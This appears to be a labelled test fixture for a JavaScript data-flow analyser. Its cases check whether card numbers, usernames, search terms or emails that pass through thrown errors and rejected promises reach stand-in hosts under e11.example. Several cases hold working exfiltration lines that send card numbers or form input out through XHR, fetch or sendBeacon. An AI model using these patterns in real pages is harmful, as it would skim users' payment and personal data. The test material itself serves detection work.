//# thrown-in-called-function
// flow: card > tcf.e11.example via xhr
function luhn1(n) { if (!/^\d{13,19}$/.test(n)) throw new RangeError('no card number: ' + n); return true; }
document.querySelector('#pay').onclick = function () {
  try { luhn1(document.querySelector('input[autocomplete=cc-number]').value); } catch (err) {
    var x = new XMLHttpRequest(); x.open('POST', 'https://tcf.e11.example/log'); x.send(err.message);
  }
};

//# near-thrown-text-is-constant
// no flow
function luhn2(n) { if (!/^\d{13,19}$/.test(n)) throw new RangeError('no card number'); return true; }
try { luhn2(document.querySelector('input[autocomplete=cc-number]').value); } catch (err) {
  navigator.sendBeacon('https://ntc.e11.example/log', err.message);
}

//# rejected-in-executor
// flow: username > rie.e11.example via fetch
const ask3 = (u) => new Promise((ok, no) => { if (u.length < 3) no({ reason: 'short', user: u }); else ok(u.length); });
ask3(document.querySelector('input[name=username]').value).catch(({ user }) => fetch('https://rie.e11.example/?u=' + user));

//# near-rejected-other-field
// no flow
const ask4 = (u) => new Promise((ok, no) => { if (u.length < 3) no({ reason: 'short', user: u }); else ok(u.length); });
ask4(document.querySelector('input[name=username]').value).catch(({ reason }) => fetch('https://nrf.e11.example/?r=' + reason));

//# async-throw-second-argument-of-then
// flow: search > ats.e11.example via beacon
async function find5(q) { const r = await fetch('/find?q=1'); if (r.status > 399) throw Object.assign(new Error('search'), { q }); return r.json(); }
find5(document.querySelector('input[type=search]').value).then(() => {}, (e) => navigator.sendBeacon('https://ats.e11.example/', JSON.stringify({ q: e.q })));

//# near-caught-before
// no flow
// why: the inner catch ends the error, the outer one gets none of it
async function find6(q) { try { throw new Error('x ' + q); } catch (e) { console.warn(e.message); } }
find6(document.querySelector('input[type=search]').value).catch((e) => fetch('https://ncb.e11.example/', { method: 'POST', body: e.message }));

//# rethrown-from-catch
// flow: email > rfc.e11.example via fetch
function save7(v) { try { JSON.parse(v); } catch (e) { throw new Error('cannot read ' + v); } }
try { save7(document.querySelector('input[type=email]').value); } catch (e) { fetch('https://rfc.e11.example/', { method: 'POST', body: String(e.message) }); }

//# near-status-of-failed-request
// flow: email > self via fetch
// why: near miss: the report tells the status alone
fetch('/join', { method: 'POST', body: document.querySelector('input[type=email]').value })
  .then((r) => { if (!r.ok) throw new Error('status ' + r.status); })
  .catch((e) => navigator.sendBeacon('https://nsf.e11.example/', e.message));
